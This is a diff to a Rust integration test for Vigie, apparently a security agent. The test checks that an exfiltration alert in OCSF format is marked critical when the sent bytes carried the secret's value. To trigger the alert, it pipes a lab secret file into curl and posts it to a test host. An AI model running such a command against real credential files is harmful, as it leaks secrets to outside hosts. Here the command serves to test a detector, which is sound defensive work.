@@ -1,7 +1,8 @@
 //! The agent's documents as OCSF (`--format ocsf`), made by the real agent on the real kernel,
 //! are valid against the published OCSF schema: alerts as Detection Findings naming the
 //! process, the secret and the destination, the start and stop as Vigie's Application
-//! Lifecycle, other documents as Base Events; never the secret's value.
+//! Lifecycle, other documents as Base Events; a finding whose bytes carried the secret's value
+//! critical; never the value itself.
 
 use std::collections::BTreeSet;
 
@@ -33,6 +34,14 @@ fn real_documents_in_ocsf_are_valid_against_the_published_schema() -> Result<()>
     let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
     host_tools::sh(&format!("cat {} | {curl}", quoted(lab.secret())))?;
     sensor.expect(is_finding_through_a_pipe, ALERT_TIMEOUT)?;
+    // curl's bytes carried the secret's value: that finding is critical, and says so.
+    let confirmed =
+        sensor.expect(|line| line["class_uid"] == 2004 && line["severity_id"] == 5, ALERT_TIMEOUT)?;
+    assert_eq!(
+        confirmed["finding_info"]["title"], "Credential exfiltration confirmed by content",
+        "{confirmed:#}"
+    );
+    assert!(confirmed["unmapped"]["vigie"]["content"]["fingerprint"].is_string(), "{confirmed:#}");
     sensor.stop()?;
 
     let evidence = &finding["evidences"][0];
